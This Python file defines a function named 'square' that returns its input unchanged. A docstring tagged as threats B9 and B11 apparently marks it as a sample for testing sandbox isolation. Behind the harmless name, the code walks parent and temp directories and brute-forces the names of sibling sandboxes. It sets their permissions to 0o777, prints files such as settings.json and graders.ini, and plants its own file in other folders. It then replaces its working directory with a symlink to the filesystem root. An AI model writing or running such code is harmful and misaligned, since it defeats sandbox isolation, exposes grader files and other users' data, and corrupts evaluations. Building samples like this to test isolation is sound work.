"""Lists the folders of runs and of other sandboxes, guesses their names, and puts links and open doors into them.

Threat: B9, B11.
"""

import itertools
import os
from pathlib import Path


def square(x):
    mine = Path.cwd()
    found = []
    for folder in (mine.parent, *mine.parents, Path("/tmp"), Path("/var/tmp"), Path("/proc/self/cwd/..")):
        try:
            found += [Path(folder, name) for name in os.listdir(folder)]
        except OSError:
            pass
    letters = "abcdefghijklmnopqrstuvwxyz0123456789_"
    found += [mine.parent / f"tmp{a}{b}{mine.name[5:]}" for a, b in itertools.product(letters, letters)]
    found += [mine.parents[1] / name for name in ("settings.json", "log", "graders.ini", "files0", "files0/square.py")]
    for place in found:
        if place != mine:
            for act in (lambda: place.chmod(0o777), lambda: print(place.read_text()), lambda: print(os.listdir(place)), lambda: os.replace("square.py", place / "cube.py")):
                try:
                    act()
                except (OSError, UnicodeDecodeError):
                    pass
    try:
        os.rename(mine, mine.with_name("tmpaaaaaaaa"))
        os.symlink("/", mine)
    except OSError:
        pass
    return x
